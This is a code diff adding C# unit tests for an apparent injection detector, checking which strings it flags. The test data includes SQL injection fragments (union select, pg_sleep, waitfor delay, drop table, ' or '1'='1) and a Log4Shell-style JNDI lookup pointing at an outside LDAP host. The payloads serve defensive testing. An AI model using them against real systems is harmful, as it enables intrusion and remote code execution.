@@ -189,6 +189,53 @@ public sealed class ScreenTests(ITestOutputHelper output) : IDisposable
         }
     }
 
+    [Theory]
+    [InlineData("please select the rows that were selected by a selector", true)]
+    [InlineData("<select name=a><option selected>b</select> and rows.Select(x, y).ToList", true)]
+    [InlineData("they sleep well, and a benchmark of it was made in summer", true)]
+    [InlineData("# A heading\nand then a line of words\n", false)]
+    [InlineData("# A heading\nthen a line of words -- and more of them\r\n\r\nit", true)]
+    [InlineData("Dear all,\nthe second line of a text, and the third\nof it", true)]
+    [InlineData("a line\nBcc: x and what else there is of it in that line", false)]
+    [InlineData("a line of it and more\r\nset-cookie: x and what else there is", false)]
+    [InlineData("a line of it and more\nand then we fetch what there is to have", false)]
+    [InlineData("a line of it and more of it; select what there is to have", false)]
+    [InlineData("a line of it and more of it 1union select what there is to", false)]
+    [InlineData("a line of it and more of it union all\nselect what there is", false)]
+    [InlineData("a line of it and more of it (select what there is to have", false)]
+    [InlineData("a line of it and more of it pg_sleep (5) what there is here", false)]
+    public void Words_of_queries_and_lines_count_where_they_say_something(string text, bool clean)
+    {
+        MissedBy(text).ShouldBeNull();
+        foreach (var width in WideVectors.Widths.Where(w => w > 0))
+        {
+            Clean.Wide = WideVectors.Of(width);
+            foreach (var behind in new[] { "", string.Concat(Enumerable.Repeat(" of it", 14)) })
+            {
+                byte[] padded = [.. Encoding.UTF8.GetBytes(text + behind), .. new byte[Clean.Behind]];
+                Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBe(clean, $"{width} {text}{behind}");
+            }
+        }
+    }
+
+    /// <summary>Where nothing of a statement stands, what is behind a quote is read as far as it may go on with a query; that is told before.</summary>
+    [Fact]
+    public void What_stands_behind_quotes_is_judged_whoever_is_asked()
+    {
+        string[] words = ["'", "\"", "`", "'", ")", "(", ";", ",", ".", "=", "<", "--", "-- a\n", "# a\n", "/*", "*/", "/* a */", "\n", "\n", "+", "1", "0xf", "1e1", "x", "@a", "'a'", "\"b\"", "and", "or", "not", "||", "&&", "union", "union all", "select", "select 1", "from", "where", "order by 1", "group by", "having 1", "procedure", "sleep(5)",
+            "sleep (5)", "pg_sleep (1)", "benchmark(1)", "drop table", "insert into", "if (", "exec sp_", "set @a", "waitfor delay", "like", "between", "in", "a.Select(b)", "selected", "var x = y;", "return", "the", "seat's", "\u00a0", "\u6f22"];
+        var random = new Random(23);
+        var told = 0;
+        for (var round = 0; round < 20_000; round++)
+        {
+            var text = string.Concat(Enumerable.Range(0, random.Next(2, 12)).Select(_ => words[random.Next(words.Length)] + (random.Next(3) > 0 ? " " : ""))) + (random.Next(4) == 0 ? new string('z', 400) : "");
+            MissedBy(text).ShouldBeNull();
+            told += Inspector.Inspect(JsonSerializer.SerializeToUtf8Bytes(new { text })).Signals.Count > 0 ? 1 : 0;
+        }
+
+        told.ShouldBeInRange(2_000, 18_000);
+    }
+
     [Fact]
     public void Pages_articles_and_source_code_are_clean()
     {
@@ -271,6 +318,28 @@ public sealed class ScreenTests(ITestOutputHelper output) : IDisposable
         var verdict = Inspector.Inspect(json);
         verdict.Decision.ShouldBe(InspectionDecision.Block);
         verdict.Signals[0].Field.ShouldBe("lines[600]");
+    }
+
+    /// <summary>Of many that say the same the first are kept; nobody is asked for those behind them.</summary>
+    [Fact]
+    public void The_first_of_many_signs_that_say_the_same_are_reported()
+    {
+        var json = JsonSerializer.SerializeToUtf8Bytes(new { messages = Enumerable.Range(0, 400).Select(i => new { role = "user", content = $"Here is how:\n\n```python\nprint(os.environ[\"X{i}\"])\n```\n\nThen run `python app.py` and **check** {i}% of it." }) });
+        Differs(json).ShouldBeNull();
+        Inspector.Inspect(json).Signals.Select(s => s.Field).Order(StringComparer.Ordinal).ShouldBe(Enumerable.Range(0, 32).Select(i => $"messages[{i}].content").Order(StringComparer.Ordinal));
+    }
+
+    /// <summary>What counts less in lines of logs does not take the place of what does not.</summary>
+    [Fact]
+    public void Attacks_that_lines_of_logs_tell_of_leave_room_for_one_on_who_reads_them()
+    {
+        var lines = Enumerable.Range(0, 100).Select(i => new { id = $"{i}", message = $"GET /?q=1' or '1'='1&x={i}" }).Append(new { id = "x", message = "${jndi:ldap://198.51.100.7/a}" });
+        var json = Encoding.UTF8.GetBytes($"{{\"awslogs\":{{\"data\":\"{Convert.ToBase64String(Packed(JsonSerializer.Serialize(new { messageType = "DATA_MESSAGE", logEvents = lines })))}\"}}}}");
+        Differs(json).ShouldBeNull();
+        var verdict = Inspector.Inspect(json);
+        verdict.Decision.ShouldBe(InspectionDecision.Block);
+        verdict.Signals.Count.ShouldBe(32);
+        verdict.Signals[0].Detector.ShouldBe("template-injection");
     }
 
     [Theory]
